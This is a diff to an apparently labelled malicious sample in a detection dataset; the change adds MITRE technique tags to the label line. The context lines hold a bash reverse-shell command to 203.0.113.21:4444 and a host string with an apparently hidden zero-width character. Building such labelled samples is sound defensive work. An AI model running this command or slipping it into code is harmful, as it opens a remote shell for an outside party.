@@ -1,4 +1,4 @@
-# label: malicious family=unicode techniques=T1027,T1059.004 lines=4-7
+# label: malicious family=unicode techniques=T1027,T1059.004,T1095,T1571 lines=4-7
 import subprocess
 host = "203.0.113​.21"
 cmd = "bash -i >& /dev/tcp/203.0.113.21/4444 0>&1"
